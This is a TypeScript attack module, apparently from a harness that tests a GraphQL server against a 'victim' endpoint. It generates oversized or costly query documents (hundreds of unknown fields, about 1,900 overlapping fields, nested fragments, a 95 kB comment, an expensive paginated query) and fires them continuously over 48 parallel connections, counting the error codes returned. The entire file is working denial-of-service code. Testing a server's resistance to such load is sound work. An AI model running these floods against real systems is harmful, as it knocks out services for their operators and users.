import { Pool } from 'undici';
import type { AttackResult, VictimRequest } from '../protocol.ts';

const connections = 48;

const repeat = (count: number, text: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => text(index)).join(' ');

/** Documents that are new in each request. `id` is unique, and part of a name. */
const documents = {
  /** Is rejected, after validating 840 fields. */
  invalid: (id: string) =>
    `{${repeat(28, (index) => `a${index}:referrals(first:1){${repeat(30, (field) => `unknown${field}_${id}`)}}`)}}`,
  /** A small one that is rejected: 10 unknown input fields. */
  inputs: (id: string) =>
    `mutation{createReferral(input:{${repeat(10, (index) => `a${index}_${id}:1`)}}){referral{id}}}`,
  /** Is valid, with 1,920 fields to merge. */
  overlap: (id: string) =>
    `query Q${id}{referrals(first:100){nodes{${'id status clientName createdAt '.repeat(480)}}}}`,
  /** Is valid, with 12 fragments of 120 fields. */
  fragments: (id: string) =>
    `query Q${id}{${repeat(12, (index) => `...F${index}`)}} ${repeat(12, (index) => `fragment F${index} on Query{referrals(first:100){nodes{${'id status clientName createdAt closedAt note '.repeat(20)}}}}`)}`,
  /** Is valid, with 95 kB of comment. */
  comment: (id: string) => `query Q${id}{partner{id}} # ${'x'.repeat(95_000)}`,
  /** A cached one, with a price of several hundred points. */
  expensive: () => '{referrals(first:100){nodes{id status clientName matter{id reference}}}}',
} as const satisfies Record<string, (id: string) => string>;

/** Sends documents over 48 connections, each as soon as the response to the previous one has arrived. Counts the responses. */
export function sendDocuments(kind: keyof typeof documents) {
  return async ({ url, headers, durationMs }: VictimRequest): Promise<AttackResult> => {
    const { origin, pathname } = new URL(url);
    const pool = new Pool(origin, { connections });
    const endMs = performance.now() + durationMs;
    const results: Record<string, number> = {};
    let sent = 0;

    async function send(): Promise<void> {
      while (performance.now() < endMs) {
        sent += 1;
        const body = JSON.stringify({ query: documents[kind](`${process.pid}_${sent}`) });
        const response = await pool.request({ method: 'POST', path: pathname, headers, body });
        const [, code = 'OK'] = /"code":"(\w+)"/.exec(await response.body.text()) ?? [];
        results[code] = (results[code] ?? 0) + 1;
      }
    }

    await Promise.all(Array.from({ length: connections }, send));
    await pool.destroy();
    return results;
  };
}
